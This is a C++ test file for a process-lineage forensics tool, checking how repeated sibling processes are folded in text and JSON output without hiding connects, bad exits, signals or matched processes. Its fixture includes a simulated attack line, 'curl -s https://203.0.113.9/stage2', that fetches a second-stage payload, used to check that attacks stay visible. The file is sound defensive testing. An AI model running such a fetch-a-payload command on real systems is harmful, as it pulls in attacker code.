// Folded repeats: siblings of one shape drawn as one line (fold.h,
// RepeatFold), the pod's roots under one header, and JSON's "repeats".
//
// The liveness fixture (fixture_journal.h) is a pod whose init runs a probe
// and a sleep every 10 s, one probe exiting 1, a batch job with nested
// repeats, an attack that connects, and a second root (a `kubectl exec`
// session). Goldens: the folded pod, a folded run next to the process the
// query names, --no-fold, the JSON. A property test over generated trees
// checks that folding never hides a connect, a non-zero exit, a signal, a
// flag or a directly matched process.

#include <catch2/catch.hpp>

#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "fixture_journal.h"
#include "fold.h"
#include "reconstruct.h"
#include "render.h"

namespace test_fold_repeats {

using namespace fixture;
using nlohmann::json;

namespace {

std::vector<std::string> text_lines(const std::string& text) {
    std::vector<std::string> out;
    std::istringstream in(text);
    for (std::string line; std::getline(in, line);) out.push_back(line);
    return out;
}

size_t occurrences(const std::string& text, const std::string& what) {
    size_t n = 0;
    for (size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + 1)) ++n;
    return n;
}

struct LivenessCase {
    TempDir dir;
    LivenessCase() { liveness_fixture().write(dir / "live.db"); }

    RunResult run(std::vector<std::string> extra) const {
        std::vector<std::string> a{"reconstruct", "--journal",    "live.db", "--since", kIncidentSince,
                                   "--until",     kIncidentUntil, "--color", "never"};
        a.insert(a.end(), extra.begin(), extra.end());
        return run_lineage(a, dir.path());
    }
};

const std::string kPodSelector = kLivenessNamespace + "/" + kLivenessPodName;

}  // namespace

TEST_CASE("folded repeats: a probe loop, broken by one odd probe, nested runs, one header per pod",
          "[reconstruct][fold]") {
    LivenessCase c;
    RunResult r = c.run({"--pod", kPodSelector});
    INFO(r.out << r.err);
    CHECK(r.status == 0);
    CHECK(golden_mismatch("liveness_pod.txt", r.out) == "");
    // 19 probes that exit 0 on one line, the odd one on its own next to it.
    CHECK(r.out.find("├── sh -c \"test -f /tmp/healthy\"  ×19  (+0.020s … +3m10s, every 10.555s on average, all exit "
                     "0)  [PIDs 30101 … 30139]") != std::string::npos);
    CHECK(r.out.find("sh -c \"test -f /tmp/healthy\"  (PID 30115)  +1m10s  exit 1") != std::string::npos);
    CHECK(r.out.find("sleep 10  ×20  (+0.024s … +3m10s, every 10.000s, all exit 0)") != std::string::npos);
    // Nested: four parts, each running gzip three times, drawn as the first.
    CHECK(r.out.find("sh -c \"gzip -9 /var/log/app/*.log\"  ×4  (+31.000s … +34.000s, every 1.000s, all exit 0)") !=
          std::string::npos);
    CHECK(r.out.find("gzip -9  ×3  (+31.020s … +31.040s, every 0.010s, all exit 0)  [PIDs 30502 … 30504]") !=
          std::string::npos);
    // The attack keeps every line, with its connect.
    CHECK(r.out.find("curl -s https://203.0.113.9/stage2  (PID 30602)") != std::string::npos);
    CHECK(r.out.find("→ connect 203.0.113.9:443") != std::string::npos);
    // Two roots, one header.
    CHECK(occurrences(r.out, "pod payments/probe-demo-7b8c9-k4m2z (uid ") == 1);
    CHECK(r.out.find(", 2 trees)") != std::string::npos);
    CHECK(r.out.find("\nsh  (PID 30700, 40 in its namespace)") != std::string::npos);

    SECTION("--ascii: no byte above 0x7f, the count with an x") {
        RunResult a = c.run({"--pod", kPodSelector, "--ascii"});
        CHECK(a.out.find("sleep 10  x20  (+0.024s ... +3m10s, every 10.000s, all exit 0)") != std::string::npos);
        for (unsigned char ch : a.out) REQUIRE(ch < 0x80);
    }
    SECTION("--no-fold: every process on its own line") {
        RunResult nf = c.run({"--pod", kPodSelector, "--no-fold"});
        CHECK(nf.status == 0);
        CHECK(golden_mismatch("liveness_pod_no_fold.txt", nf.out) == "");
        CHECK(nf.out.find("×") == std::string::npos);
        // loop, 40 children, batch + 4 + 12, 3 attack, session + ls.
        CHECK(occurrences(nf.out, "  (PID ") == 1 + 40 + 17 + 3 + 2);
    }
    SECTION("a folded run next to the process the query names") {
        RunResult m = c.run({"--descendants-of", std::to_string(kLivenessLoopPid)});
        CHECK(m.status == 0);
        CHECK(golden_mismatch("liveness_descendants.txt", m.out) == "");
        CHECK(m.out.find("sh /app/loop.sh  (PID 30100, 1 in its namespace)") != std::string::npos);
        CHECK(m.out.find("sleep 10  ×20  ") != std::string::npos);
    }
    SECTION("JSON never folds, and counts each node's younger siblings of its shape") {
        RunResult j = c.run({"--pod", kPodSelector, "--format", "json"});
        CHECK(j.status == 0);
        CHECK(golden_mismatch("liveness_pod.json", j.out) == "");
        json doc = json::parse(j.out);
        REQUIRE(doc.at("trees").size() == 2);
        const json& loop = doc.at("trees")[0];
        REQUIRE(loop.at("pid") == kLivenessLoopPid);
        CHECK(loop.at("children").size() == 42);
        std::map<uint32_t, uint32_t> repeats;
        for (const auto& child : loop.at("children")) repeats[child.at("pid")] = child.at("repeats");
        CHECK(repeats[30101] == 18);  // 19 probes of one shape; the odd one is not counted
        CHECK(repeats[30102] == 19);  // 20 sleeps
        CHECK(repeats[30139] == 0);
        CHECK(repeats[kLivenessOddPid] == 0);
        CHECK(repeats[30600] == 0);  // the attack connects below it
    }
}

TEST_CASE("folding a run of siblings that are selected directly: each keeps its line", "[reconstruct][fold]") {
    lineage::Model model = liveness_fixture().build_model();
    lineage::Query q;
    q.since_wall_ns = kWall0;
    q.until_wall_ns = kWall0 + 300LL * 1'000'000'000;
    q.binary_glob = "sleep";
    lineage::Report report = lineage::build_report(model, q);
    std::string text = lineage::TextRenderer(lineage::TextOptions{}).render(model, report);
    INFO(text);
    CHECK(occurrences(text, "sleep 10  (PID ") == 20);
    CHECK(text.find("×") == std::string::npos);
}

// ---------------------------------------------------------------- property

namespace {

// A random tree of processes below one root, drawn from a few shapes so
// that runs of equal siblings are common, with connects, bad exits, signals
// and cut argv sprinkled in.
struct Generated {
    FixtureJournal fx;
    std::set<uint32_t> worth;  // PIDs that must keep a line of their own
    size_t processes = 0;
};

Generated generate(uint32_t seed) {
    Generated g;
    std::mt19937 rng(seed);
    auto chance = [&](int percent) { return static_cast<int>(rng() % 100) < percent; };
    Proc init = g.fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"});
    std::vector<Proc> procs;
    Proc root = FixtureJournal::proc(40000, at(1000));
    g.fx.fork(init, root, at(1000));
    g.fx.exec(root, "/bin/sh", {"sh", "/gen.sh"}, at(1000, 1'000'000));
    procs.push_back(root);
    const size_t n = 100 + rng() % 300;
    const std::vector<std::vector<std::string>> argvs{
        {"sh", "-c", "test -f /tmp/ok"}, {"sleep", "1"}, {"true"}, {"cat", "/etc/hostname"}};
    std::vector<uint64_t> exits;
    for (size_t i = 1; i < n; ++i) {
        // Mostly below the few oldest: wide fans of siblings.
        const size_t parent = chance(70) ? rng() % std::min<size_t>(procs.size(), 4) : rng() % procs.size();
        const uint64_t t = at(1001) + i * 10'000'000;
        Proc p = FixtureJournal::proc(static_cast<uint32_t>(40000 + i), t);
        g.fx.fork(procs[parent], p, t);
        if (!chance(10)) {
            const auto& argv = argvs[rng() % argvs.size()];
            ExecOpts opts;
            if (chance(3)) {
                opts.truncated = lineage::kArgvTruncated;
                g.worth.insert(p.tgid);
            }
            g.fx.exec(p, "/bin/" + argv[0], argv, t + 1'000'000, opts);
        }
        if (chance(4)) {
            g.fx.connect(p, "192.0.2.1", 80, t + 2'000'000);
            g.worth.insert(p.tgid);
        }
        procs.push_back(p);
    }
    // Bottom up, each at least after its start.
    for (size_t i = n; i-- > 1;) {
        const uint64_t t = at(1150) + (n - i) * 1'000'000;
        if (chance(3)) {
            g.fx.exit(procs[i], t, 0, 9);
            g.worth.insert(procs[i].tgid);
        } else if (chance(4)) {
            g.fx.exit(procs[i], t, 2);
            g.worth.insert(procs[i].tgid);
        } else if (!chance(5)) {
            g.fx.exit(procs[i], t, 0);
        }
    }
    g.processes = n;
    return g;
}

}  // namespace

TEST_CASE("folding never hides a connect, a bad exit, a signal, a flag or a direct match: generated trees",
          "[reconstruct][fold]") {
    size_t folded_lines = 0;
    for (uint32_t seed = 1; seed <= 60; ++seed) {
        Generated g = generate(seed);
        lineage::Model model = g.fx.build_model();
        lineage::Query q;
        q.since_wall_ns = kWall0;
        q.until_wall_ns = kWall0 + 300LL * 1'000'000'000;
        q.descendants_of = 40000;
        lineage::Report report = lineage::build_report(model, q);
        REQUIRE(report.trees.size() == 1);
        // Some processes named by the query itself, as --pid or --binary would.
        std::mt19937 rng(seed * 7919);
        std::set<uint32_t> worth = g.worth;
        for (auto& node : report.trees[0].nodes) {
            if (rng() % 100 < 3) {
                node.direct_match = true;
                worth.insert(node.process->tgid);
            }
        }
        worth.insert(40000);  // the root
        const std::string text = lineage::TextRenderer(lineage::TextOptions{}).render(model, report);
        INFO("seed " << seed << "\n" << text);
        std::set<uint32_t> own_line;
        for (const auto& line : text_lines(text)) {
            const size_t at = line.find("  (PID ");
            if (at == std::string::npos) continue;
            own_line.insert(static_cast<uint32_t>(std::stoul(line.substr(at + 7))));
        }
        for (uint32_t pid : worth) {
            INFO("PID " << pid << " has no line of its own");
            CHECK(own_line.count(pid) == 1);
        }
        CHECK(occurrences(text, "→ connect 192.0.2.1:80") == occurrences(text, "→ connect "));
        size_t connects = 0;
        for (const auto& [key, p] : model.processes()) connects += p.connects.size();
        CHECK(occurrences(text, "→ connect ") == connects);
        folded_lines += occurrences(text, "  ×");

        // The JSON's repeats follow the same rule: never on what is worth seeing.
        const std::vector<uint32_t> repeats = lineage::sibling_repeats(report.trees[0]);
        for (size_t i = 0; i < repeats.size(); ++i) {
            const auto& node = report.trees[0].nodes[i];
            if (worth.count(node.process->tgid)) CHECK(repeats[i] == 0);
        }
        // Without folding, every process has its line.
        lineage::TextOptions no_fold;
        no_fold.fold.fold = false;
        const std::string all = lineage::TextRenderer(no_fold).render(model, report);
        CHECK(occurrences(all, "  (PID ") == report.trees[0].nodes.size());
    }
    // The generator does make runs to fold.
    CHECK(folded_lines > 60);
}

TEST_CASE("folding 100,000 probes: one line, linear", "[reconstruct][fold]") {
    // A flat fan of identical children under one parent, as a day of a 1 s
    // probe makes; the time is bench/run's, this checks the output.
    lineage::Process parent;
    parent.tgid = 1;
    std::vector<lineage::Process> kids(100'000);
    lineage::Tree tree;
    tree.nodes.resize(kids.size() + 1);
    tree.nodes[0].process = &parent;
    for (size_t i = 0; i < kids.size(); ++i) {
        kids[i].tgid = static_cast<uint32_t>(i + 2);
        lineage::ExecImage image;
        image.binary = "/bin/true";
        image.args = {"true"};
        kids[i].execs.push_back(image);
        kids[i].exit = lineage::ExitInfo{};
        tree.nodes[i + 1].process = &kids[i];
        tree.nodes[i + 1].depth = 1;
        tree.nodes[i + 1].in_window = true;
        tree.nodes[0].children.push_back(static_cast<uint32_t>(i + 1));
    }
    lineage::FoldPlan plan = lineage::plan_folds(tree, lineage::FoldOptions{});
    REQUIRE(plan.repeats.size() == 1);
    CHECK(plan.repeats[0].members.size() == 100'000);
    CHECK(plan.repeat_at[1] == 0);
    CHECK(plan.hidden[2]);
    CHECK_FALSE(plan.hidden[1]);
    lineage::FoldOptions off;
    off.fold = false;
    CHECK(lineage::plan_folds(tree, off).repeats.empty());
}

}  // namespace test_fold_repeats
